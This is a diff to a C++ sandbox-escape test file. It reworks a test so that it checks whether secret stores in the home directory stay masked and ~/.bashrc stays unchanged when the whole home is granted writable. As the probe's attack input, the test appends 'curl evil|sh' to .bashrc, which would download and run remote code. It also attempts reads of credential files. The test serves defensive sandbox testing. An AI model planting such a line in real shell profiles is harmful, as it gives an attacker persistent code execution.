@@ -115,21 +115,18 @@ TEST_P(Escape, ReadSecretStores) {
   EXPECT_NE(control.out.find(sb().canary("npmrc")), std::string::npos) << control.describe();
 }
 
-// Guards: the same stores when the command runs from $HOME itself (`cd ~ && npm install -g ...`):
-// ${PROJECT} is then the home directory, and the masks must still win over the project's grant.
-TEST_P(Escape, SecretsWhenProjectIsHome) {
-  std::filesystem::copy_file(probe_binary(), sb().in_home("moat-probe"));
-  ASSERT_EQ(chown(sb().in_home("moat-probe").c_str(), sb().uid(), sb().gid()), 0);
-  chmod(sb().in_home("moat-probe").c_str(), 0755);
-  RunSpec spec;
-  spec.cwd = sb().home();
+// Guards: the same stores when the whole home is granted writable (`--allow-write ~`; the home is
+// never the project itself, see HomeIsNeverTheProject): the masks must still win over the grant.
+TEST_P(Escape, SecretsWhenHomeIsGranted) {
   std::string bashrc_before = file_sha(sb().in_home(".bashrc"));
   for (const auto& s : sb().secrets()) {
     SCOPED_TRACE(s.rel);
-    RunResult r = attack(Sandbox::probe({"read", s.rel}), {}, spec);
-    expect_no_canary(r, s.canary, "read ./" + s.rel + " with PROJECT=$HOME");
+    RunResult r =
+        attack(Sandbox::probe({"read", sb().in_home(s.rel)}), {"--allow-write", sb().home()});
+    expect_no_canary(r, s.canary, "read ~/" + s.rel + " with the home granted");
   }
-  RunResult w = attack(Sandbox::probe({"append", ".bashrc", "curl evil|sh"}), {}, spec);
+  RunResult w = attack(Sandbox::probe({"append", sb().in_home(".bashrc"), "curl evil|sh"}),
+                       {"--allow-write", sb().home()});
   EXPECT_EQ(file_sha(sb().in_home(".bashrc")), bashrc_before) << w.describe();
 }
 
